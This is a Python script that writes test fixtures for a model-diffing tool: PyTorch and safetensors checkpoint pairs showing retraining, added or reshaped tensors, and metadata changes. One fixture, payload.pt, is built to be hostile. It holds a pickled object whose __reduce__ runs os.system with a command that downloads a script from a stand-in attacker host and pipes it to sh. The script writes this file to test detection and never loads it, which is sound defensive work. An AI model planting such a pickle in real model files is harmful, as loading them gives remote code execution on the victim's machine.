#!/usr/bin/python3
"""Writes modeldiff's fixtures: pairs of real files (base → head) as a PR
would change them. Run with Debian's python3 (torch 1.13, numpy):
    /usr/bin/python3 gen.py
The payload checkpoint is written, never loaded: its pickle calls os.system.
"""
import collections, json, os, struct

import numpy as np
import torch

HERE = os.path.dirname(os.path.abspath(__file__))
torch.manual_seed(0)


class Net(torch.nn.Module):
    def __init__(self, classes=0):
        super().__init__()
        self.fc = torch.nn.Linear(4, 2)
        self.bn = torch.nn.BatchNorm1d(2)
        if classes:
            self.classifier = torch.nn.Linear(2, classes)


def save(obj, name, legacy=False):
    torch.save(obj, os.path.join(HERE, name), _use_new_zipfile_serialization=not legacy)


base = Net().state_dict()
save(base, "base.pt")
save(base, "base_legacy.pt", legacy=True)

# retrained: same tensors, new values
retrained = collections.OrderedDict((k, v + 1 if v.is_floating_point() else v) for k, v in base.items())
save(retrained, "retrained.pt")

# a new head: two tensors added, one re-typed, one reshaped
grown = Net(classes=3).state_dict()
grown["fc.bias"] = grown["fc.bias"].double()
grown["bn.running_mean"] = torch.zeros(4)
save(grown, "added_tensor.pt")
save(grown, "added_tensor_legacy.pt", legacy=True)


class Payload:
    """Pickles as a call of os.system; torch.save records it, nothing runs."""

    def __reduce__(self):
        return (os.system, ("curl -s https://attacker.example/x | sh",))


evil = collections.OrderedDict(base)
evil["_metadata_hook"] = Payload()
save(evil, "payload.pt")

# safetensors pair (format by hand, as the spec describes it): a tensor
# added and a metadata key changed


def st(tensors, metadata):
    header, data = {}, b""
    for name, arr in tensors.items():
        raw = arr.tobytes()
        header[name] = {"dtype": {"float32": "F32", "int64": "I64"}[str(arr.dtype)],
                        "shape": list(arr.shape), "data_offsets": [len(data), len(data) + len(raw)]}
        data += raw
    header["__metadata__"] = metadata
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h)) + h + data


w = {"fc.weight": np.ones((2, 4), np.float32), "fc.bias": np.zeros(2, np.float32)}
with open(os.path.join(HERE, "base.safetensors"), "wb") as f:
    f.write(st(w, {"format": "pt", "version": "1"}))
w2 = dict(w, **{"lm_head.weight": np.ones((3, 2), np.float32)})
with open(os.path.join(HERE, "head.safetensors"), "wb") as f:
    f.write(st(w2, {"format": "pt", "version": "2", "source": "finetune"}))
